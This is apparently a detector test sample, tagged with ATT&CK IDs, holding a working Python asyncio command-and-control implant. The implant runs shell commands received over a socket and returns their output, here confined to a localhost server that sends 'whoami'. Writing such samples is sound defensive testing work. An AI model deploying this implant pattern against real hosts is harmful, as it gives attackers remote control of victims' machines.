# technique: T1059.004 T1071.001 T1059.006
"""Command-and-control loop over asyncio streams (T1059.004, T1071.001).

Python RAT style: an asyncio client connects out, reads newline-separated
commands, runs each with asyncio.create_subprocess_shell and writes the output
back. No shell has the socket as its stdin; the link between network input
and the command is only through Python data.

A good detector raises a high alert: a command received over the network is
passed to a shell.
"""
import asyncio

async def server(reader, writer):
    writer.write(b"whoami\nexit\n"); await writer.drain()
    try:
        await asyncio.wait_for(reader.read(65536), 3)
    except Exception: pass
    writer.close()

async def implant(port):
    r, w = await asyncio.open_connection("127.0.0.1", port)
    while True:
        line = (await r.readline()).decode().strip()
        if not line or line == "exit":
            break
        proc = await asyncio.create_subprocess_shell(line, stdout=asyncio.subprocess.PIPE,
                                                     stderr=asyncio.subprocess.STDOUT)
        out, _ = await proc.communicate()
        w.write(out); await w.drain()
    w.close()

async def main():
    srv = await asyncio.start_server(server, "127.0.0.1", 0)
    port = srv.sockets[0].getsockname()[1]
    try:
        await asyncio.wait_for(implant(port), 6)
    except Exception: pass
    srv.close()

asyncio.run(main())
